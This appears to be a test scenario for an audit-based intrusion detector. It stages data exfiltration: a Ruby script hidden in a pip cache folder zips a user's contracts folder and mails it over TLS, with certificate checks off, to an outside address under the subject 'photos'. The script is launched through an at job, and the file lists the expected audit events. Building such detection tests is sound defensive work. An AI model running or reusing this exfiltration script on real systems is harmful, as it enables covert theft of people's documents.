title="An at job: ruby hands a zip over to an outside submission service, TLS from the first byte"
what="buyer's at job runs ruby with a script from a cache folder; Net::SMTP with implicit TLS at port 465 of an outside mail service, the archive in the message."
user=buyer daemons="cron atd sshd" audit_rules=audit-site.rules audit_format=RAW
setup() {
  documents
  outside python3 - "$base/out/keys" <<'P' & own_pids+=($!)
import socketserver, ssl, sys, time, os
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain(sys.argv[1] + '/cert.pem', sys.argv[1] + '/key.pem')
class H(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b'220 smtp.example.com\r\n')
        while l := self.rfile.readline():
            v = l[:4].upper()
            if v == b'EHLO': self.wfile.write(b'250-smtp\r\n250-AUTH PLAIN LOGIN\r\n250 SIZE 50000000\r\n')
            elif v == b'AUTH': self.wfile.write(b'235 2.7.0 ok\r\n')
            elif v == b'DATA':
                self.wfile.write(b'354 go\r\n')
                while self.rfile.readline() not in (b'.\r\n', b''): pass
                self.wfile.write(b'250 ok\r\n')
            elif v == b'QUIT': self.wfile.write(b'221 bye\r\n'); return
            else: self.wfile.write(b'250 ok\r\n')
class S(socketserver.ThreadingTCPServer):
    allow_reuse_address = True; daemon_threads = True
    def get_request(self):
        s, a = self.socket.accept(); return c.wrap_socket(s, server_side=True), a
S(('203.0.113.25', 465), H).serve_forever()
P
  own_file /home/buyer/.cache/pip/selfcheck/s.rb <<'P'
require 'net/smtp'
z = '/home/buyer/.cache/pip/selfcheck/c.zip'
system('zip', '-qr', z, '/home/buyer/contracts')
ctx = OpenSSL::SSL::SSLContext.new; ctx.verify_mode = OpenSSL::SSL::VERIFY_NONE
s = Net::SMTP.new('smtp.example.com', 465); s.enable_tls(ctx)
body = "From: j.m.1987@example.com\r\nTo: j.m.1987@example.com\r\nSubject: photos\r\nContent-Transfer-Encoding: base64\r\n\r\n" + [File.binread(z)].pack('m')
s.start('localhost', 'j.m.1987@example.com', 'xxxx', :plain) { |m| m.send_message(body, 'j.m.1987@example.com', 'j.m.1987@example.com') }
File.delete(z)
P
}
act() {
  small_talk 2
  ssh_as buyer <<'L'
ls contracts
echo 'ruby ~/.cache/pip/selfcheck/s.rb >/dev/null 2>/tmp/.rb' | at now
%sleep 6
L
  cat /tmp/.rb >&2; small_talk 1
}
truth() {
  exec_step run 'ruby.* /home/buyer/.cache/pip/selfcheck/s.rb' 'atd starts ruby'
  exec_step pack 'zip -qr' 'documents packed'
  net_step smtps 'ruby.* 203.0.113.25:465' 'handed over with TLS'
}
